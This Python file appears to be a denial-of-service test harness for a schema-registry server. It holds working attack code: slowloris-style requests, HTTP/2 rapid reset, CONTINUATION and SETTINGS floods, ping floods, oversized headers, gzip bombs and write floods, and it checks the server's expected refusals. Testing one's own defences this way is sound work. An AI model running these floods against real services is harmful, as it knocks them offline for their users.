"""Attack a server in one way for some seconds, and print in JSON "begins", then what came back.

An attacker has a reader's certificate, or the publisher's where it writes. It is a process of its own, of the lowest
priority, since it would be another machine.
"""

import argparse
import asyncio
import contextlib
import gzip
import json
import os
import ssl
import struct
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Final

from google.api.httpbody_pb2 import HttpBody
from grpc import RpcError, aio

from devtools.http2_frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    field_lines,
    frame,
    frames_of,
    grpc_fields,
)
from devtools.servers import credentials
from schemaregistry.v1 import registry_pb2 as pb
from schemaregistry.v1.registry_pb2_grpc import SchemaRegistryStub

SERVICE: Final = "/schemaregistry.v1.SchemaRegistry"
EMPTY: Final = b"\0\0\0\0\0"
"""A gRPC message without a byte."""
CODES: Final = {
    0: "NO_ERROR",
    1: "PROTOCOL_ERROR",
    2: "INTERNAL_ERROR",
    7: "REFUSED_STREAM",
    8: "CANCEL",
    9: "COMPRESSION_ERROR",
    11: "ENHANCE_YOUR_CALM",
}
FRAMES: Final = {HEADERS: "answered", RST_STREAM: "stream reset", GOAWAY: "told to go away"}


Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


@dataclass
class Place:
    """Where a server listens, the attacker's files for TLS, and what it was told so far."""

    grpc: str
    rest: str
    tls: Path
    told: Counter[str] = field(default_factory=Counter)
    _contexts: dict[str, ssl.SSLContext] = field(default_factory=dict)

    def context(self, protocol: str) -> ssl.SSLContext:
        if protocol not in self._contexts:
            context = ssl.create_default_context(cafile=self.tls / "ca.pem")
            context.load_cert_chain(self.tls / "reader.pem", self.tls / "reader-key.pem")
            context.set_alpn_protocols([protocol])
            self._contexts[protocol] = context
        return self._contexts[protocol]

    @asynccontextmanager
    async def http(
        self, protocol: str = "http/1.1"
    ) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
        """A connection to REST, or with `h2` to gRPC."""
        host, _, port = (self.grpc if protocol == "h2" else self.rest.rpartition("//")[2]).rpartition(":")
        reader, writer = await asyncio.open_connection(
            host, int(port), ssl=self.context(protocol), server_hostname="localhost"
        )
        try:
            yield reader, writer
        finally:
            if not writer.transport.is_closing():
                writer.transport.abort()

    async def listen(self, reader: asyncio.StreamReader) -> None:
        """Count the frames that come, until the server ends the connection."""
        received = bytearray()
        while data := await _read(reader):
            received += data
            for kind, _, _, payload in frames_of(received):
                if kind in FRAMES:
                    self.told[f"{FRAMES[kind]}{_reason(kind, payload)}"] += 1
                    if kind == HEADERS and b"grpc-message" in payload:
                        self.told["refused"] += 1
        self.told["closed"] += 1

    def channel(self, identity: str) -> aio.Channel:
        own = [("grpc.use_local_subchannel_pool", 1)]
        return aio.secure_channel(self.grpc, credentials(self.tls, identity), own)


async def _read(reader: asyncio.StreamReader) -> bytes:
    """What came; nothing where the connection is gone."""
    try:
        return await reader.read(1 << 16)
    except OSError:
        return b""


def _reason(kind: int, payload: bytes) -> str:
    if kind == HEADERS:
        return ""
    code = int.from_bytes(payload[4:8] if kind == GOAWAY else payload[:4])
    return f": {CODES.get(code, code)}"


Attack = Callable[[Place], Awaitable[None]]


def many(count: int, one: Attack) -> Attack:
    """`count` times the same at once; each begins again when its connection is gone."""

    async def again(place: Place) -> None:
        while True:
            try:
                await one(place)
            except (OSError, asyncio.IncompleteReadError, TimeoutError):
                place.told["cut off"] += 1
                await asyncio.sleep(0.05)

    async def attack(place: Place) -> None:
        await asyncio.gather(*(again(place) for _ in range(count)))

    return attack


async def slow_head(place: Place) -> None:
    """A request to REST whose headers come a byte at a time, without end."""
    async with place.http() as (reader, writer):
        writer.write(b"GET /schemas HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
        while not reader.at_eof():
            writer.write(b"a")
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(reader.read(1 << 16), 0.5)
        place.told["closed"] += 1


async def slow_frame(place: Place) -> None:
    """A gRPC connection whose first call comes a byte at a time, without end."""
    async with place.http("h2") as (reader, writer):
        call = frame(HEADERS, 0, 1, grpc_fields(f"{SERVICE}/ListSchemas") + MORE)
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        listening = asyncio.create_task(place.listen(reader))
        for byte in call:
            writer.write(bytes([byte]))
            await asyncio.wait({listening}, timeout=0.5)
            if listening.done():
                break


async def idle(place: Place) -> None:
    """A connection that sends nothing, to REST and to gRPC."""

    async def wait(protocol: str) -> None:
        async with place.http(protocol) as (reader, _):
            await reader.read()
            place.told["closed"] += 1

    await asyncio.gather(wait("http/1.1"), wait("h2"))


async def watches(place: Place) -> None:
    """A thousand watches over one connection."""
    channel = place.channel("reader")
    stub = SchemaRegistryStub(channel)

    async def watch() -> None:
        try:
            async for _ in stub.WatchSchemas(pb.WatchSchemasRequest()):
                place.told["watching"] += 1
                await asyncio.Event().wait()
        except RpcError as refused:
            place.told[refused.code().name] += 1

    try:
        await asyncio.gather(*(watch() for _ in range(1000)))
    finally:
        await channel.close()


async def open_streams(place: Place) -> None:
    """A thousand calls over one connection whose messages never come."""
    async with place.http("h2") as (reader, writer):
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        fields = grpc_fields(f"{SERVICE}/GetSchema")
        writer.write(b"".join(frame(HEADERS, END_HEADERS, stream, fields) for stream in range(1, 2001, 2)))
        await place.listen(reader)


def flood(sent: Callable[[int], bytes]) -> Attack:
    """A gRPC connection over which `sent(stream)` goes out for one stream after the other, without a pause."""

    async def attack(place: Place) -> None:
        async with place.http("h2") as (reader, writer):
            writer.write(PREFACE + frame(SETTINGS, 0, 0))
            listening = asyncio.create_task(place.listen(reader))
            stream = 1
            while not listening.done() and not writer.is_closing():
                writer.write(b"".join(sent(each) for each in range(stream, stream + 64, 2)))
                place.told["sent"] += 32
                stream += 64
                await writer.drain()
                await asyncio.sleep(0)

    return attack


def rapid_reset(stream: int) -> bytes:
    """A call that is given up in the same breath (CVE-2023-44487)."""
    call = frame(HEADERS, END_HEADERS, stream, grpc_fields(f"{SERVICE}/ListSchemas"))
    return call + frame(DATA, END_STREAM, stream, EMPTY) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")


def continuation(stream: int) -> bytes:
    """A piece of header fields that never end (CVE-2024-27316)."""
    piece = grpc_fields(f"{SERVICE}/ListSchemas", **{f"x-{'a' * 100}": "b" * 120}) if stream == 1 else MORE
    return frame(HEADERS if stream == 1 else CONTINUATION, 0, 1, piece)


FIELD: Final = field_lines({"c" * 126: "d" * 126})
MORE: Final = FIELD * 60
LARGEST: Final = FIELD * 63


def large_fields(stream: int) -> bytes:
    """A call with more header fields than a server takes."""
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, grpc_fields(f"{SERVICE}/ListSchemas") + LARGEST)


def ping(stream: int) -> bytes:
    return frame(PING, 0, 0, struct.pack("!Q", stream))


def settings(stream: int) -> bytes:
    """A setting (SETTINGS_INITIAL_WINDOW_SIZE) that changes again and again (CVE-2019-9515)."""
    return frame(SETTINGS, 0, 0, struct.pack("!HI", 4, 65_535 + stream % 1000))


@cache
def gibibyte() -> bytes:
    """1 GiB in 1 MiB."""
    return gzip.compress(bytes(1 << 30))


async def bomb(place: Place) -> None:
    """Messages to gRPC that are a MiB compressed, and a GiB read."""
    packed = gibibyte()
    async with place.http("h2") as (reader, writer):
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1 << 30)))
        fields = grpc_fields(f"{SERVICE}/ValidateRecords", grpc_encoding="gzip")
        listening = asyncio.create_task(place.listen(reader))
        for stream in range(1, 17, 2):
            message = b"\1" + struct.pack("!I", len(packed)) + packed
            writer.write(frame(HEADERS, END_HEADERS, stream, fields))
            # The first window of a stream; what follows would have to be asked for.
            for at in range(0, 64_000, 16_000):
                writer.write(frame(DATA, 0, stream, message[at : at + 16_000]))
            await writer.drain()
        await asyncio.wait({listening}, timeout=1)


MOST_WAITING: Final = 2000


async def writes(place: Place) -> None:
    """One identity's writes, one connection's share of 5,000 a second."""
    channel = place.channel("ci-bot")
    stub = SchemaRegistryStub(channel)
    document = HttpBody(data=b'{"$id": "flood_v1", "version": "1.0.0"}')

    async def write() -> None:
        try:
            await stub.RegisterSchema(pb.RegisterSchemaRequest(id="flood_v1", document=document))
        except RpcError as refused:
            place.told[refused.code().name] += 1

    waiting: set[asyncio.Task[None]] = set()
    try:
        while True:
            begun = {asyncio.create_task(write()) for _ in range(125)} if len(waiting) < MOST_WAITING else set()
            place.told["sent"] += len(begun)
            waiting |= begun
            await asyncio.sleep(0.1)
            waiting = {task for task in waiting if not task.done()}
    finally:
        await channel.close()


BOMBS: Final = "gzip bombs"
WRITES: Final = "5,000 writes a second"
ATTACKS: Final[dict[str, Attack]] = {
    "slow heads over REST": many(200, slow_head),
    "slow frames over HTTP/2": many(200, slow_frame),
    "2,000 idle connections": many(1000, idle),
    "10,000 watches": many(10, watches),
    "10,000 calls without a message": many(10, open_streams),
    "rapid reset": many(4, flood(rapid_reset)),
    "endless CONTINUATION": many(4, flood(continuation)),
    "too large header fields": many(4, flood(large_fields)),
    "pings": many(4, flood(ping)),
    "settings": many(4, flood(settings)),
    BOMBS: many(4, bomb),
    WRITES: many(4, writes),
}


TOLD: Final = {
    "slow heads over REST": "closed",
    "rapid reset": "stream reset: ENHANCE_YOUR_CALM",
    "too large header fields": "closed",
    "pings": "told to go away: ENHANCE_YOUR_CALM",
    "10,000 watches": "watching",
    BOMBS: "refused",
    WRITES: "RESOURCE_EXHAUSTED",
}
"""What an attacker is told in the end; those of the other attacks wait in vain."""

AT_MOST: Final = 120
"""Seconds that an attack goes on where it isn't told so sooner: both ends may be on a busy machine."""


async def attack(place: Place, name: str, seconds: float) -> None:
    """Attack for some seconds, and then until the attacker was told what is in TOLD."""
    task = asyncio.ensure_future(ATTACKS[name](place))
    await asyncio.wait({task}, timeout=seconds)
    for _ in range(AT_MOST):
        if name not in TOLD or TOLD[name] in place.told:
            break
        await asyncio.wait({task}, timeout=1)
    task.cancel()
    await asyncio.wait({task})


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("seconds", type=float)
    parser.add_argument("grpc", help="HOST:PORT")
    parser.add_argument("rest", help="https://HOST:PORT")
    parser.add_argument("tls", type=Path, help="directory with ca.pem, reader.pem, ci-bot.pem and their keys")
    asked = parser.parse_args()
    os.nice(19)
    place = Place(asked.grpc, asked.rest, asked.tls)
    if asked.name == BOMBS:
        gibibyte()
    print(json.dumps("begins"), flush=True)
    asyncio.run(attack(place, asked.name, asked.seconds))
    print(json.dumps(place.told))


if __name__ == "__main__":
    main()
